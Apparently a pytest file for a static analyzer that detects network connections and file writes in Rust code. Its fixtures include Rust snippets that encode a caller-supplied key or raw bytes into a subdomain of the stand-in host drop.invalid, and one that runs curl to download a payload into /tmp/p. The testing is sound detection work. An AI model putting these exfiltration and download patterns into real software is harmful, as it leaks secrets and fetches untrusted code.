"""What `Display` of an own type shows is known as far as its pieces are."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]
LABEL = """
    struct Label<'a>(usize, &'a str);
    impl std::fmt::Display for Label<'_> {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str(self.1)?;
            f.write_char('.')?;
            write!(f, "{}.drop.invalid", self.0)
        }
    }"""
SHOWN = {
    "to_string": "pub fn go(k: &str) { ureq::get(&Label(1, k).to_string()).call().ok(); }",
    "a format string": 'pub fn go(k: &str) { ureq::get(&format!("{}", Label(1, k))).call().ok(); }',
    "a local in a format string": """
        pub fn go(k: &str) { let l = Label(1, k); ureq::get(&format!("{}", l)).call().ok(); }""",
}


@pytest.mark.parametrize("code", SHOWN.values(), ids=SHOWN)
def test_known_and_unknown_pieces_stand_in_order(facts_of: FactsOf, code: str) -> None:
    found = facts_of(LABEL + code, "src/lib.rs")
    asked = [one.subject for one in found if one.kind is FactKind.NET_CONNECT]
    assert asked == ["{}.1.drop.invalid"]


def test_a_type_without_fields_is_shown_by_its_name(facts_of: FactsOf) -> None:
    code = """
        struct Host;
        impl std::fmt::Display for Host {
            fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result { f.pad("drop.invalid") }
        }
        pub fn go() { ureq::get(&format!("https://{Host}/x")).call().ok(); }"""
    found = facts_of(code, "src/lib.rs")
    assert "https://drop.invalid/x" in {
        one.subject for one in found if one.kind is FactKind.NET_CONNECT
    }


def test_what_a_loop_writes_is_open(facts_of: FactsOf) -> None:
    code = """
        struct Hex<'a>(&'a [u8]);
        impl std::fmt::Display for Hex<'_> {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                for b in self.0 { write!(f, "{b:02x}")?; }
                f.write_str(".drop.invalid")
            }
        }
        pub fn go(k: &[u8]) { ureq::get(&Hex(k).to_string()).call().ok(); }"""
    found = facts_of(code, "src/lib.rs")
    asked = [one.subject for one in found if one.kind is FactKind.NET_CONNECT]
    assert asked == ["{}{}.drop.invalid"]


def test_a_bundle_of_short_options_names_the_file(facts_of: FactsOf) -> None:
    code = """pub fn go() {
        std::process::Command::new("curl").args(["-fsSo", "/tmp/p", "https://drop.invalid/p"]).spawn().ok();
    }"""
    found = facts_of(code, "src/lib.rs")
    assert "/tmp/p" in {one.subject for one in found if one.kind is FactKind.FILE_WRITE}
